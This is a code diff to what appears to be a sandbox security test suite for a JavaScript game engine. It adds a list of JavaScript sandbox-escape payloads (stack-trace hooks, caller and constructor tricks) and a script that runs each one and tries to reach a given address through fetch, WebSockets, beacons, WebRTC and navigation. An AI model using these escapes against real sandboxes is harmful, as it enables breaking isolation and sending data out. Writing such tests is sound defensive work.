@@ -241,6 +241,67 @@ WORKER_ATTACKS = {
     "ran": "root.console.log('the worker ran')",
 }
 
+#: objects by which scripts have left other sandboxes: each may lead to the functions of a host
+ESCAPES = {
+    "stack trace": "Error.prepareStackTrace = function (e, s) { return s }; try { null.x }"
+    " catch (e) { return e.stack }",
+    "function of a stack trace": "Error.prepareStackTrace = function (e, s) {"
+    " return s.map(function (c) { return c.getThis() || c.getFunction() }) };"
+    " return new Error().stack.filter(Boolean)[0]",
+    "stack limit": "Error.stackTraceLimit = Infinity; return new Error().constructor",
+    "getter": "return Object.defineProperty({}, 'x', { get: function () { return this } }).x",
+    "caller": "return (function f() { return f.caller })()",
+    "proxy": "return new Proxy(function () {}, { get: function (t, n) { return t[n] } })",
+    "promise": "return Promise.resolve()",
+    "async function": "return (async function () {})",
+    "iterator": "return [][Symbol.iterator]()",
+    "generator": "return (function* () {})()",
+    "cause": "return new Error('x', { cause: globalThis }).cause",
+    "overflow": "function f() { f() } try { f() } catch (e) { return e }",
+    "error of the host": "try { structuredClone(function () {}) } catch (e) { return e }",
+    "WebAssembly": "return new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
+    "symbol": "return Symbol.prototype",
+    "global of functions": "return (function () { return this })()",
+    "scope of the worker": "return globalThis",
+    "answers": "return postMessage",
+    "kernel": "return Dagaz.Model.BuildDesign",
+    "library": "return _",
+}
+
+#: runs all escapes, and sends a request by each global object that they find
+ESCAPE_SCRIPT = """
+(function () {
+function use(name, scope) {
+  var address = '%(address)s' + encodeURIComponent(name)
+  ;[function () { scope.fetch(address).catch(function () {}) },
+    function () { scope.importScripts(address) },
+    function () { new scope.WebSocket(address.replace('http', 'ws')) },
+    function () { var r = new scope.XMLHttpRequest(); r.open('GET', address, false); r.send() },
+    function () { scope.navigator.sendBeacon(address, '') },
+    function () { new scope.RTCPeerConnection({ iceServers: [{ urls: 'stun:x.invalid' }] }) },
+    function () { new scope.Worker(address) },
+    function () { scope.open(address) },
+    function () { scope.top.location = address },
+    function () { if (scope.parent !== scope && scope.parent.document) scope.fetch(address) },
+    function () { scope.process.exit() }, function () { scope.require('fs') }
+  ].forEach(function (attempt) { try { attempt() } catch (error) {} })
+}
+var ESCAPES = {%(escapes)s}
+Object.keys(ESCAPES).forEach(function (name) {
+  var found
+  try { found = ESCAPES[name]() } catch (error) { return }
+  use(name, found)
+  try { use(name, found.constructor.constructor('return this')()) } catch (error) {}
+})
+delete Error.prepareStackTrace
+})()
+"""
+
+
+def escape_script(address: str) -> str:
+    """Return a script with all escapes, whose requests go to an address."""
+    return ESCAPE_SCRIPT % {"address": address, "escapes": _functions(ESCAPES)}
+
 
 def script(tcp: int, udp: int) -> str:
     """Return the script of a page with all attacks, for listeners at these ports."""
